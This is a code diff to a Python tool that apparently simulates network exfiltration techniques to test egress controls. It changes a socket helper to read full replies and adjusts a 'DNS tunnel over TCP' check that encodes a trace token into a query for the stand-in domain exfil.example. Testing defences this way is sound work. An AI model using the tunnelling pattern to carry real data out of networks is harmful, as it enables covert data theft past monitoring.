@@ -50,17 +50,20 @@ def address(host, port):
     return f"[{host}]:{port}" if ":" in host else f"{host}:{port}"
 
 
-def exchange(host, port, payload):
-    """Connects, sends, reads what comes back at first. Never raises: (answer, error)."""
+def exchange(host, port, payload, most=65536):
+    """Connects, sends, reads what comes back until the other end closes, or `most` bytes. Never raises: (answer, error)."""
     family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    heard, error = b"", None
     try:
         with socket.socket(family, socket.SOCK_STREAM) as sock:
             sock.settimeout(TIMEOUT)
             sock.connect((host, port))
             sock.sendall(payload)
-            return sock.recv(4096).decode(errors="replace"), None
+            while len(heard) < most and (piece := sock.recv(4096)):
+                heard += piece
     except OSError as refused:
-        return None, str(refused)
+        error = str(refused)
+    return heard.decode(errors="replace") or None, error
 
 
 def get(path, host, mark):
@@ -129,7 +132,7 @@ def dns():
             report(technique, "dns", f"A {name}", f"{resolver} {name}", answer, error)
         name = f"{trace()}.exfil.example"
         message = query(name)
-        answer, error = exchange(resolver, 53, struct.pack("!H", len(message)) + message)
+        answer, error = exchange(resolver, 53, struct.pack("!H", len(message)) + message, 2)
         report("DNS tunnel over TCP", "dns", f"A {name}", name.partition(".")[0], answer and "answered", error)
 
 
